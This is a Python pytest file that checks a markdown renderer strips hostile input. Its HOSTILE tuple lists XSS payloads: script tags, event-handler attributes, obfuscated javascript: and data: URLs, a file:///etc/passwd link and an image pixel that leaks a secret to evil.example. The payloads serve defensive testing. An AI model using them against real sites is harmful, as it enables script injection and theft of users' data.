"""Markdown of hostile texts."""

import re

import pytest

from aibridge_addon.web.highlight import highlighted
from aibridge_addon.web.markdown import MOST_CHARACTERS, markdown

ALLOWED = frozenset(
    {"a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li"}
    | {"ol", "p", "pre", "s", "strong", "ul"}
    | {"table", "tbody", "td", "th", "thead", "tr"}
)
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "text <b onmouseover=alert(1)>bold</b>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:x) [click](file:///etc/passwd)",
    "[click](/logout) [click](//evil.example)",
    "![image](https://evil.example/pixel.gif?secret)",
    "![x](javascript:alert(1))",
    '[x](https://a.example "onclick=alert(1)")',
    '<https://evil.example/"onmouseover="alert(1)>',
    "[a]: javascript:alert(1)\n\n[a]",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "| a | <script> |\n| --- | --- |\n| <svg onload=alert(1)> | b |",
    "\x00<script\x00>",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_yields_only_harmless_elements(text: str) -> None:
    html = str(markdown(text))
    for tag in re.findall(r"<([^<>]*)>", html):
        name, _, attributes = tag.lstrip("/").partition(" ")
        assert name.rstrip("/") in ALLOWED, html
        for attribute, value in re.findall(r'([\w-]+)="([^"]*)"', attributes):
            assert attribute in {"href", "title", "target", "rel", "class", "start"}, html
            if attribute == "href":
                assert value.startswith(("http://", "https://", "mailto:")), html
    assert "<img" not in html


def test_links_tell_other_sites_nothing() -> None:
    html = str(markdown("[spec](https://example.com/a)"))
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html


def test_long_text_is_shown_without_parsing() -> None:
    text = "<b>[" * MOST_CHARACTERS
    html = str(markdown(text))
    assert html.startswith("<pre>&lt;b&gt;[")


def test_snippet_marks_words_and_escapes_the_rest() -> None:
    html = str(highlighted("<i>\x02par<b>ser\x03</i>"))
    assert html == "&lt;i&gt;<mark>par&lt;b&gt;ser</mark>&lt;/i&gt;"
